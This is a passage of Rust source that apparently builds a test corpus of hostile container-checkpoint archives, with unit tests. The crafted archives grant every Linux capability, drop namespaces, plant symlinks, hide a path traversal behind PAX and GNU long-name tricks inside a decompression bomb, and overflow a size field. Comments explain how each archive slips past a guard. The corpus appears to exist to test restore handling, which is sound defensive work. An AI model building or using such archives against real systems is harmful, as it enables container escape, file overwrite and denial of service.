    "CAP_IPC_LOCK",
    "CAP_IPC_OWNER",
    "CAP_SYS_MODULE",
    "CAP_SYS_RAWIO",
    "CAP_SYS_CHROOT",
    "CAP_SYS_PTRACE",
    "CAP_SYS_PACCT",
    "CAP_SYS_ADMIN",
    "CAP_SYS_BOOT",
    "CAP_SYS_NICE",
    "CAP_SYS_RESOURCE",
    "CAP_SYS_TIME",
    "CAP_SYS_TTY_CONFIG",
    "CAP_MKNOD",
    "CAP_LEASE",
    "CAP_AUDIT_WRITE",
    "CAP_AUDIT_CONTROL",
    "CAP_SETFCAP",
    "CAP_MAC_OVERRIDE",
    "CAP_MAC_ADMIN",
    "CAP_SYSLOG",
    "CAP_WAKE_ALARM",
    "CAP_BLOCK_SUSPEND",
    "CAP_AUDIT_READ",
    "CAP_PERFMON",
    "CAP_BPF",
    "CAP_CHECKPOINT_RESTORE",
];

fn meta_all_caps(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(
        aim,
        &meta(|_, _, spec| {
            let all = json!({ "bounding": ALL_CAPS, "effective": ALL_CAPS, "permitted": ALL_CAPS });
            spec["process"]["capabilities"] = all;
        }),
        |_| {},
    ))
}

fn meta_no_namespaces(aim: &Aim) -> Vec<u8> {
    zstd(&export_with(
        aim,
        &meta(|_, _, spec| spec["linux"]["namespaces"] = json!([{ "type": "network" }])),
        |_| {},
    ))
}

fn meta_symlink_network_status(aim: &Aim) -> Vec<u8> {
    let inner = Inner {
        links: vec![("network.status", aim.victim.clone())],
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

fn meta_symlink_checkpoint(aim: &Aim) -> Vec<u8> {
    let (dir, _) = split(&aim.victim);
    let inner = Inner {
        links: vec![("checkpoint", dir.to_string())],
        ..Inner::default()
    };
    zstd(&export_with(aim, &inner, |_| {}))
}

/// A PAX extended header whose one record is `key=value`.
fn pax(t: &mut Tar, key: &str, value: &str) {
    let body = format!(" {key}={value}\n");
    // The record's length counts its own digits.
    let mut len = body.len() + 1;
    while format!("{len}{body}").len() != len {
        len += 1;
    }
    let record = format!("{len}{body}");
    let mut m = Member::new(b"././@PaxHeader", tar::EntryType::XHeader);
    m.data = record.as_bytes();
    t.member(m);
}

fn pax_longname_bomb(aim: &Aim) -> Vec<u8> {
    const SIZE: u64 = 3 << 30;
    let mut t = export_head(aim, &Inner::default());
    // The tar crate reads this member with no data (PAX size 0), so the next block is a header
    // to it; a guard reading the size field takes that block for the member's data.
    pax(&mut t, "size", "0");
    let mut hidden = Member::new(b"artifacts/cc-cover", tar::EntryType::Regular);
    hidden.declared = Some(BLOCK as u64);
    t.member(hidden);
    let mut head = t.0;
    head.extend(header_only(
        b"././@LongLink",
        tar::EntryType::GNULongName,
        SIZE,
    ));
    // The name: zeros, which a guard that missed the header takes for end-of-archive blocks; so
    // it never sees the traversal behind, which a reader that survives the bomb extracts.
    let mut t = Tar::default();
    t.file(b"cc-named", 0o644, b"x\n");
    t.file(climb(&aim.escape).as_bytes(), 0o644, ESCAPED);
    zstd_rle_frame(&head, 0, SIZE, &t.finish())
}

fn size_overflow(aim: &Aim) -> Vec<u8> {
    let mut t = export_head(aim, &Inner::default());
    let mut m = Member::new(b"artifacts/cc-huge", tar::EntryType::Regular);
    m.declared = Some(u64::MAX);
    t.member(m);
    // Right behind the header: a traversal, which a reader whose rounding wrapped to 0 takes
    // for the next member; a sound one takes it for the huge member's data and finds it cut.
    t.file(climb(&aim.escape).as_bytes(), 0o644, ESCAPED);
    zstd(&t.finish())
}

/// Writes every archive of the corpus to `dir` as `<name>.tar` (for inspection); returns the paths.
pub fn write_corpus(dir: &std::path::Path) -> std::io::Result<Vec<std::path::PathBuf>> {
    std::fs::create_dir_all(dir)?;
    let mut paths = Vec::new();
    for (name, bytes) in corpus() {
        let path = dir.join(format!("{name}.tar"));
        std::fs::write(&path, bytes)?;
        paths.push(path);
    }
    Ok(paths)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::archive::{read_archive, Compression, MemberKind};

    #[test]
    fn names_are_unique_and_the_corpus_is_deterministic() {
        let mut names: Vec<&str> = ATTACKS.iter().map(|a| a.name).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), ATTACKS.len());
        let aim = Aim::default();
        for a in ATTACKS.iter().filter(|a| !a.name.ends_with("bomb")) {
            assert_eq!(a.build(&aim), a.build(&aim), "{}", a.name);
        }
    }

    #[test]
    fn the_base_export_is_plausible() {
        let aim = Aim {
            runtime: "runc".into(),
            ..Aim::default()
        };
        let bytes = zstd(&export_with(&aim, &Inner::default(), |_| {}));
        let a = read_archive(&bytes).unwrap();
        assert_eq!(a.compression, Compression::Zstd);
        let config = a.members.iter().find(|m| m.path == "config.dump").unwrap();
        let config: serde_json::Value =
            serde_json::from_slice(config.data.as_ref().unwrap()).unwrap();
        assert_eq!(config["name"], "cc-hostile");
        assert_eq!(config["id"], container_id("cc-hostile"));
        // The run's runtime: podman refuses another runtime's archive before any attack.
        assert_eq!(config["runtime"], "runc");
        for want in [
            "spec.dump",
            "checkpoint/inventory.img",
            "rootfs-diff.tar",
            "stats-dump",
        ] {
            assert!(a.members.iter().any(|m| m.path == want), "{want}");
        }
    }

    #[test]
    fn attacks_carry_their_member() {
        let aim = Aim::default();
        let read = |name: &str| read_archive(&attack(name).unwrap().build(&aim)).unwrap();
        let a = read("traversal");
        assert!(a.members.iter().any(|m| m.path == climb(&aim.escape)));
        let a = read("symlink-write");
        let link = a.members.iter().find(|m| m.path == "cc-link").unwrap();
        assert_eq!(
            (link.kind, link.link_target.as_deref()),
            (MemberKind::Symlink, Some("/tmp"))
        );
        assert!(a
            .members
            .iter()
            .any(|m| m.path == "cc-link/cc-escape-marker"));
        let a = read("device-node");
        assert!(a
            .members
            .iter()
            .any(|m| m.path == "artifacts/cc-hostile-mem" && m.kind == MemberKind::Other));
        let a = read("duplicate-members");
        assert_eq!(
            a.members.iter().filter(|m| m.path == "config.dump").count(),
            2
        );
    }

    #[test]
    fn long_escape_paths_use_gnu_long_names() {
        let aim = Aim {
            escape: format!("/{}/escape", "d".repeat(300)),
            ..Aim::default()
        };
        let a = read_archive(&attack("traversal").unwrap().build(&aim)).unwrap();
        assert!(a.members.iter().any(|m| m.path == climb(&aim.escape)));
    }

    #[test]
    fn container_ids_are_64_hex_and_differ_by_name() {
        let a = container_id("a");
        assert_eq!(a.len(), 64);
        assert!(a.bytes().all(|b| b.is_ascii_hexdigit()));
        assert_ne!(a, container_id("b"));
    }

    #[test]
    fn bombs_are_small() {
        let aim = Aim::default();
        for name in ["decompression-bomb", "longname-bomb"] {
            let len = attack(name).unwrap().build(&aim).len();
            assert!(len < 256 << 10, "{name}: {len} bytes");
        }
    }

    #[test]
    fn the_rle_frame_decodes_to_what_it_says() {
        let frame = zstd_rle_frame(b"head", b'z', 300_000, b"tail");
        let out = zstd::decode_all(&frame[..]).unwrap();
        assert_eq!(out.len(), 4 + 300_000 + 4);
        assert!(out.starts_with(b"head") && out.ends_with(b"tail"));
        assert!(out[4..300_004].iter().all(|b| *b == b'z'));
    }
}
